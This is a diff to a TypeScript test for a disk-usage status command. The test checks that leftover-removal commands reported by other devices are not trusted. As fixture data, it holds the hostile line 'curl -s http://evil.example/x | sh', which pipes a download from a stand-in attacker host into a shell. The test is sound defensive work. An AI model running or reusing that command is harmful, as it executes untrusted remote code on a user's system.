@@ -3,7 +3,7 @@ import * as deviceFacts from "../../protocol/device-facts.ts";
 import type { DeviceId, ZoneId } from "../../protocol/ids.ts";
 import * as specs from "../apps/spec.ts";
 import { testSpec } from "../apps/test-spec.ts";
-import { usageWith } from "../facts/test-usage.ts";
+import { diskWith, NEARLY_FULL, usageWith } from "../facts/test-usage.ts";
 import type { DeviceStanding } from "../facts/zone-facts.ts";
 import { appendLocalChangeset } from "../state/feed.ts";
 import { openTestNode, testDeviceDocument, testZone } from "../state/test-db.ts";
@@ -21,7 +21,7 @@ describe("where a device's space goes, in bucky status --disk", () => {
     heardAliveAt: 0,
     factsAt: 0,
     facts: {
-      disk: { freeBytes: GiB, totalBytes: 100 * GiB },
+      disk: NEARLY_FULL,
       usage: usageWith([
         { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
       ]),
@@ -30,13 +30,9 @@ describe("where a device's space goes, in bucky status --disk", () => {
 
   test("only the usage measured here says how to remove its leftovers: another device's command could be any", () => {
     // A member writes its facts as it likes, its leftovers' "how to remove it" too.
-    expect(deviceDisk(standing("laptop"), false)).toEqual({
-      device: "laptop",
-      freeBytes: GiB,
-      totalBytes: 100 * GiB,
-      nearlyFull: true,
-      usage: usageWith([{ what: "apps/old", bytes: GiB }]),
-    });
+    expect(deviceDisk(standing("laptop"), false)).toEqual(
+      diskWith("laptop", [{ what: "apps/old", bytes: GiB }]),
+    );
     expect(deviceDisk(standing("nas"), true).usage?.leftovers).toEqual([
       { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
     ]);
